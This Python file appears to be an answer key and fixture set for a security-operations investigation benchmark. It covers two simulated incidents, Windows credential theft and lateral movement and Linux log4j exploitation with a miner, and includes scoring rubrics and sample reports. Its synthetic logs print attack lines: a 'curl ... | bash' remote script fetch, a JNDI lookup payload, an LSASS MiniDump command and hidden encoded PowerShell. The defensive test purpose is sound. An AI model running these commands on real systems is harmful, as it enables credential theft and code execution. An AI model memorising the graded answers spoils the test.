"""Answer keys in the seed's plain form only (no `expect`, no machine-checkable actions), as a security
engineer writes them, with the telemetry an investigation of each retrieves.

- WIN: a macro on a finance workstation, LSASS dumped with comsvcs.dll MiniDump, PsExec to the DC,
  an HTTPS beacon (Sysmon, Security, Zeek, in the streams Elastic's integrations name).
- LNX: log4j exploitation of a Java service, a miner with cron persistence; Microsoft Defender for
  Endpoint (mdatp / wdavdaemon) runs on the host and must be left alone.
"""

from __future__ import annotations

from typing import Any

from judge_case import Calls, hit

from pytest_soclab.models.task import Task
from pytest_soclab.models.transcript import ToolCall

WIN_C2 = "203.0.113.77"
WIN_HOSTS = {"FIN-WS07": "10.40.8.17", "HQ-DC01": "10.40.0.5", "HR-WS02": "10.40.8.22", "FILESRV": "10.40.0.9"}
SYSMON = ".ds-logs-windows.sysmon_operational-default-2024.03.02-000001"
SECURITY = ".ds-logs-system.security-default-2024.03.02-000001"
ZEEK_CONN = ".ds-logs-zeek.connection-default-2024.03.02-000001"


def _key(**kw: Any) -> dict[str, Any]:
    return {"difficulty": "hard", "allowed_tools": ["list_indices", "get_mappings", "esql_query", "es_search"], **kw}


WIN_TASK: dict[str, Any] = _key(
    id="task-plain-win",
    title="Suspicious LSASS access on a finance workstation",
    source_case="case-plain-win",
    attack_stage=["execution", "credential-access", "lateral-movement", "command-and-control"],
    trigger={"type": "alert", "prompt": "Alert 'LSASS Memory Access by Unusual Process' on FIN-WS07 at 10:14 UTC.",
             "pivot": {"host.name": "FIN-WS07", "time_utc": "2024-03-02T10:14:00Z"}},
    ground_truth={
        "root_cause": "A macro in invoice.docm opened by jdoe on FIN-WS07 started an encoded PowerShell; it dumped "
                      "LSASS with rundll32 comsvcs.dll MiniDump to C:\\Users\\jdoe\\AppData\\Local\\Temp\\lsass.dmp, "
                      f"used the stolen credentials to run PsExec against HQ-DC01 and beaconed to {WIN_C2} over HTTPS.",
        "attacker_ip": WIN_C2,
        "implicated_hosts": ["FIN-WS07", "HQ-DC01"],
        "techniques": ["T1566.001", "T1059.001", "T1003.001", "T1021.002", "T1071.001"],
        "key_evidence": [
            {"source": "logs-windows.sysmon_operational", "must_find": "comsvcs.dll, MiniDump"},
            {"source": "logs-windows.sysmon_operational", "must_find": "0x1fffff"},
            {"source": "logs-system.security", "must_find": "PSEXESVC"},
            {"source": "logs-zeek.connection", "must_find": WIN_C2},
        ],
        "iocs": [WIN_C2, "invoice.docm", "lsass.dmp"],
        "correlation": "The Sysmon 10 access to lsass.exe by rundll32 on FIN-WS07 is followed two minutes later by "
                       "a 4624 type 3 logon of jdoe from FIN-WS07 on HQ-DC01 and the PSEXESVC service install "
                       f"(7045); Zeek shows the SMB session between the two hosts and the HTTPS beacon to {WIN_C2}.",
        "conclusion": "FIN-WS07 was compromised by a phishing macro; jdoe's credentials were dumped and used to move "
                      "to HQ-DC01. Defender and Sysmon on the hosts are normal.",
    },
    expected_response={
        "required": [
            "Isolate the compromised hosts FIN-WS07 and HQ-DC01",
            f"Block {WIN_C2} at the firewall",
            "Disable jdoe's account and reset the krbtgt password twice",
            "Patch or upgrade Office / disable macros from the internet",
        ],
        "over_reaction_penalty": [
            "Wiping HQ-DC01 (a domain controller, and the evidence)",
            "Kill or remove MsMpEng / Sysmon (the security agents)",
            "Disabling all domain admin accounts",
            "Isolating HR-WS02 or FILESRV, which were not touched",
        ],
    },
    scoring={"checkpoints": [
        {"dim": "evidence_recall", "points": 10,
         "check": "Found the LSASS dump: rundll32 loading comsvcs.dll MiniDump with GrantedAccess 0x1fffff"},
        {"dim": "evidence_recall", "points": 10, "check": "Found the PsExec service PSEXESVC installed on HQ-DC01"},
        {"dim": "evidence_recall", "points": 8, "check": f"Found the beacon to {WIN_C2} in the Zeek connection logs"},
        {"dim": "evidence_recall", "points": 7, "check": "Found the malicious document that started the chain"},
        {"dim": "correlation", "points": 15,
         "check": "Linked the credential dump on FIN-WS07 to the logon and service install on HQ-DC01 (same account, "
                  "two minutes apart)"},
        {"dim": "correlation", "points": 10, "check": "Tied the host events to the network traffic of the two hosts"},
        {"dim": "conclusion_accuracy", "points": 10, "check": "Identified the phishing macro as the root cause"},
        {"dim": "conclusion_accuracy", "points": 8, "check": "Scoped the compromise to FIN-WS07 and HQ-DC01"},
        {"dim": "conclusion_accuracy", "points": 7, "check": "Mapped the activity to the right ATT&CK techniques"},
        {"dim": "response_restraint", "points": 10, "check": "Recommended isolating both hosts and blocking the C2"},
        {"dim": "response_restraint", "points": 5,
         "check": "Did not over-react: no wipe of the DC, no killing of the security tools"},
    ]},
)

LNX_C2 = "198.18.7.9"
LNX_HOSTS = {"app-lnx-3": "10.60.1.13", "db-lnx-1": "10.60.2.4", "app-lnx-4": "10.60.1.14"}
ENDPOINT = ".ds-logs-endpoint.events.process-default-2024.06.11-000001"
ZEEK_HTTP = ".ds-logs-zeek.http-default-2024.06.11-000001"

LNX_TASK: dict[str, Any] = _key(
    id="task-plain-lnx",
    title="A Java service spawning a shell",
    source_case="case-plain-lnx",
    attack_stage=["initial-access", "execution", "persistence", "impact"],
    trigger={"type": "alert", "prompt": "Alert 'Unusual Child Process of a Java Service' on app-lnx-3.",
             "pivot": {"host.name": "app-lnx-3", "time_utc": "2024-06-11T03:02:00Z"}},
    ground_truth={
        "root_cause": f"The tomcat service on app-lnx-3 was exploited through a log4j JNDI lookup from {LNX_C2}; "
                      f"java spawned /bin/sh running `curl -s http://{LNX_C2}/x.sh | bash`, which installed the "
                      "miner /var/tmp/kworkerd and the cron file /etc/cron.d/kworkerd.",
        "attacker_ip": LNX_C2,
        "implicated_hosts": ["app-lnx-3"],
        "techniques": ["T1190", "T1059.004", "T1053.003", "T1496"],
        "key_evidence": [
            {"source": "logs-zeek.http", "must_find": "${jndi:ldap://"},
            {"source": "logs-endpoint.events.process", "must_find": "/var/tmp/kworkerd"},
            {"source": "logs-endpoint.events.process", "must_find": f"http://{LNX_C2}/x.sh"},
        ],
        "iocs": [LNX_C2, "/var/tmp/kworkerd", "/etc/cron.d/kworkerd"],
        "correlation": "The JNDI string in the Zeek http log from the attacker is followed within a second by "
                       "java's shell child on app-lnx-3, whose download starts the miner and writes the cron file.",
        "conclusion": "app-lnx-3 is compromised through log4j and mines for the attacker; db-lnx-1 only served "
                      "the application's queries. mdatp's scans are the host's own antivirus.",
    },
    expected_response={
        "required": [
            "Kill the miner process kworkerd on app-lnx-3",
            f"Block {LNX_C2}",
            "Remove /etc/cron.d/kworkerd and /var/tmp/kworkerd",
            "Patch or upgrade log4j / disable JNDI lookups",
        ],
        "over_reaction_penalty": [
            "Kill or remove mdatp / wdavdaemon",
            "Isolating db-lnx-1, which only served queries",
            "Wiping app-lnx-3 before it is imaged",
        ],
    },
    scoring={"checkpoints": [
        {"dim": "evidence_recall", "points": 15, "check": "Found the JNDI lookup in the web traffic"},
        {"dim": "evidence_recall", "points": 10, "check": "Found the miner /var/tmp/kworkerd started from the download"},
        {"dim": "evidence_recall", "points": 10, "check": "Found the download of the script from the attacker"},
        {"dim": "correlation", "points": 25,
         "check": "Linked the exploit request to java's shell child and the miner it installed"},
        {"dim": "conclusion_accuracy", "points": 15, "check": "Concluded log4j exploitation of app-lnx-3 from the attacker IP"},
        {"dim": "conclusion_accuracy", "points": 10, "check": "Mapped to the ATT&CK techniques"},
        {"dim": "response_restraint", "points": 10, "check": "Recommended stopping the miner and blocking the attacker"},
        {"dim": "response_restraint", "points": 5, "check": "Left the antivirus alone and did not isolate the database"},
    ]},
)


def win_task() -> Task:
    return Task.model_validate(WIN_TASK)


def lnx_task() -> Task:
    return Task.model_validate(LNX_TASK)


# ------------------------------------------------------------------ telemetry


def _win(ts: str, host: str, code: str, dataset: str, **fields: Any) -> dict[str, Any]:
    return {"@timestamp": ts, "event": {"code": code, "module": "windows" if "sysmon" in dataset else "system"},
            "host": {"name": host, "ip": [WIN_HOSTS[host]]}, "data_stream": {"dataset": dataset}, **fields}


def win_calls() -> list[ToolCall]:
    c = Calls()
    c._add("list_indices", {"pattern": "*"}, [{"index": i, "docs.count": "1"} for i in (SYSMON, SECURITY, ZEEK_CONN)])
    c.search("logs-windows.sysmon_operational-*", {"query": {"term": {"host.name": "FIN-WS07"}}}, [
        hit(SYSMON, "s1", _win("2024-03-02T10:05:11Z", "FIN-WS07", "1", "windows.sysmon_operational",
                                process={"pid": 4412, "name": "powershell.exe", "entity_id": "{a1}",
                                         "command_line": "powershell.exe -nop -w hidden -enc SQBFAFgA",
                                         "parent": {"name": "WINWORD.EXE",
                                                    "command_line": "WINWORD.EXE /n C:\\Users\\jdoe\\Downloads\\invoice.docm"}},
                                user={"name": "jdoe"})),
        hit(SYSMON, "s2", _win("2024-03-02T10:12:40Z", "FIN-WS07", "1", "windows.sysmon_operational",
                                process={"pid": 5120, "name": "rundll32.exe",
                                         "command_line": "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 "
                                                         "C:\\Users\\jdoe\\AppData\\Local\\Temp\\lsass.dmp full",
                                         "parent": {"name": "powershell.exe"}}, user={"name": "jdoe"})),
        hit(SYSMON, "s3", _win("2024-03-02T10:12:41Z", "FIN-WS07", "10", "windows.sysmon_operational",
                                process={"pid": 5120, "name": "rundll32.exe"},
                                winlog={"event_data": {"TargetImage": "C:\\Windows\\system32\\lsass.exe",
                                                       "GrantedAccess": "0x1fffff"}})),
        hit(SYSMON, "s4", _win("2024-03-02T10:00:02Z", "FIN-WS07", "1", "windows.sysmon_operational",
                                process={"pid": 3010, "name": "MsMpEng.exe", "command_line": "MsMpEng.exe"},
                                user={"name": "SYSTEM"})),
    ])
    c.search("logs-system.security-*", {"query": {"terms": {"event.code": ["4624", "7045"]}}}, [
        hit(SECURITY, "e1", _win("2024-03-02T10:14:20Z", "HQ-DC01", "4624", "system.security",
                                  source={"ip": WIN_HOSTS["FIN-WS07"]}, user={"name": "jdoe"},
                                  winlog={"logon": {"type": "Network"}})),
        hit(SECURITY, "e2", _win("2024-03-02T10:14:22Z", "HQ-DC01", "7045", "system.security",
                                  service={"name": "PSEXESVC"}, message="A service was installed: PSEXESVC")),
        hit(SECURITY, "e3", _win("2024-03-02T09:00:00Z", "HR-WS02", "4624", "system.security",
                                  user={"name": "mlee"}, source={"ip": "10.40.8.22"})),
    ])
    c.esql(
        f'FROM logs-zeek.connection-* | WHERE source.ip IN ("{WIN_HOSTS["FIN-WS07"]}", "{WIN_HOSTS["HQ-DC01"]}") '
        "| KEEP @timestamp, source.ip, destination.ip, destination.port, network.protocol",
        [("@timestamp", "date"), ("source.ip", "ip"), ("destination.ip", "ip"), ("destination.port", "long"),
         ("network.protocol", "keyword")],
        [["2024-03-02T10:14:19Z", WIN_HOSTS["FIN-WS07"], WIN_HOSTS["HQ-DC01"], 445, "smb"],
         ["2024-03-02T10:06:00Z", WIN_HOSTS["FIN-WS07"], WIN_C2, 443, "ssl"],
         ["2024-03-02T10:16:00Z", WIN_HOSTS["FIN-WS07"], WIN_C2, 443, "ssl"],
         ["2024-03-02T10:00:00Z", WIN_HOSTS["HQ-DC01"], "10.40.0.9", 445, "smb"]],
    )
    return c.calls


WIN_GOOD_MD = f"""# FIN-WS07: credential theft and lateral movement to HQ-DC01

## What happened
jdoe opened the macro document invoice.docm (WINWORD.EXE), whose phishing macro started an encoded
PowerShell (`powershell.exe -nop -w hidden -enc ...`, Sysmon 1, doc s1). That PowerShell ran
`rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 ...\\lsass.dmp` (s2), and Sysmon 10 (s3)
shows rundll32 opening lsass.exe with GrantedAccess 0x1fffff: an LSASS credential dump.

Two minutes later jdoe logged on to HQ-DC01 from FIN-WS07 (4624 type 3, e1) and the PsExec service
PSEXESVC was installed there (7045, e2): the dumped credentials were used for lateral movement. Zeek shows
the SMB session from FIN-WS07 to HQ-DC01 on 445 and the HTTPS beacon from FIN-WS07 to {WIN_C2} on 443
every ten minutes, so the host events and the network traffic are one chain.

## Conclusion
Root cause: the phishing macro in invoice.docm. Compromised: FIN-WS07 and HQ-DC01; attacker C2 {WIN_C2}.
MsMpEng (Defender) is the host's own antivirus.

## ATT&CK
T1566.001, T1059.001, T1003.001, T1021.002, T1071.001.

## Recommended response
1. Isolate FIN-WS07 and HQ-DC01.
2. Block {WIN_C2} at the firewall.
3. Disable jdoe's account and reset the krbtgt password twice.
4. Patch Office and block macros from the internet.
"""

WIN_ENTITIES_MD = f"""# Entities
FIN-WS07, HQ-DC01, jdoe, {WIN_C2}, invoice.docm, lsass.dmp, PSEXESVC, comsvcs.dll, 0x1fffff
"""

WIN_PENALTIES_MD = """# Response
The alert on FIN-WS07 looks serious.

## Recommended response
1. Wipe HQ-DC01.
2. Kill MsMpEng and remove Sysmon on FIN-WS07.
3. Disable all domain admin accounts.
4. Isolate HR-WS02 and FILESRV.
"""


def _lnx_proc(ts: str, host: str, pid: int, exe: str, cmd: str, parent: str, user: str = "tomcat") -> dict[str, Any]:
    return {"@timestamp": ts, "event": {"category": ["process"], "type": ["start"]},
            "host": {"name": host, "ip": [LNX_HOSTS[host]]}, "user": {"name": user},
            "process": {"pid": pid, "executable": exe, "name": exe.rsplit("/", 1)[-1], "command_line": cmd,
                        "parent": {"name": parent}},
            "data_stream": {"dataset": "endpoint.events.process"}}


def lnx_calls() -> list[ToolCall]:
    c = Calls()
    c._add("list_indices", {"pattern": "*"}, [{"index": i, "docs.count": "1"} for i in (ENDPOINT, ZEEK_HTTP)])
    c.search("logs-endpoint.events.process-*", {"query": {"term": {"host.name": "app-lnx-3"}}}, [
        hit(ENDPOINT, "p1", _lnx_proc("2024-06-11T03:01:58Z", "app-lnx-3", 7001, "/bin/sh",
                                      f"/bin/sh -c curl -s http://{LNX_C2}/x.sh | bash", "java")),
        hit(ENDPOINT, "p2", _lnx_proc("2024-06-11T03:02:03Z", "app-lnx-3", 7044, "/var/tmp/kworkerd",
                                      "/var/tmp/kworkerd -o pool:3333", "bash")),
        hit(ENDPOINT, "p3", _lnx_proc("2024-06-11T03:00:00Z", "app-lnx-3", 912, "/opt/microsoft/mdatp/sbin/wdavdaemon",
                                      "/opt/microsoft/mdatp/sbin/wdavdaemon", "systemd", "root")),
        hit(ENDPOINT, "p4", _lnx_proc("2024-06-11T03:02:05Z", "app-lnx-3", 7050, "/usr/bin/crontab",
                                      "crontab /etc/cron.d/kworkerd", "bash")),
    ])
    c.search("logs-zeek.http-*", {"query": {"term": {"destination.ip": LNX_HOSTS["app-lnx-3"]}}}, [
        hit(ZEEK_HTTP, "h1", {"@timestamp": "2024-06-11T03:01:57Z", "source": {"ip": LNX_C2},
                              "destination": {"ip": LNX_HOSTS["app-lnx-3"], "port": 8080},
                              "user_agent": {"original": f"${{jndi:ldap://{LNX_C2}:1389/a}}"},
                              "data_stream": {"dataset": "zeek.http"}}),
        hit(ZEEK_HTTP, "h2", {"@timestamp": "2024-06-11T03:00:00Z", "source": {"ip": LNX_HOSTS["db-lnx-1"]},
                              "destination": {"ip": LNX_HOSTS["app-lnx-3"], "port": 8080},
                              "data_stream": {"dataset": "zeek.http"}}),
    ])
    return c.calls


LNX_GOOD_MD = f"""# app-lnx-3: log4j exploitation and a miner

{LNX_C2} sent a request whose User-Agent holds the JNDI lookup `${{jndi:ldap://{LNX_C2}:1389/a}}` (Zeek http, h1).
One second later java spawned `/bin/sh -c curl -s http://{LNX_C2}/x.sh | bash` (p1); the downloaded script
started the miner /var/tmp/kworkerd (p2) and wrote the cron file /etc/cron.d/kworkerd (p4). The exploit request,
java's shell child and the miner are one chain: log4j exploitation of app-lnx-3 by {LNX_C2}.

ATT&CK: T1190, T1059.004, T1053.003, T1496. wdavdaemon (mdatp) is the host's own antivirus; db-lnx-1 only
sends the application's queries.

## Recommended response
- Kill the miner kworkerd (pid 7044) on app-lnx-3.
- Block {LNX_C2}.
- Remove /etc/cron.d/kworkerd and delete /var/tmp/kworkerd.
- Upgrade log4j and disable JNDI lookups.
"""

LNX_ENTITIES_MD = f"""# Entities
app-lnx-3, {LNX_C2}, /var/tmp/kworkerd, /etc/cron.d/kworkerd, http://{LNX_C2}/x.sh, jndi
"""

LNX_PENALTIES_MD = """# Response
## Recommended response
- Kill mdatp and wdavdaemon on app-lnx-3.
- Isolate db-lnx-1.
- Wipe app-lnx-3.
"""
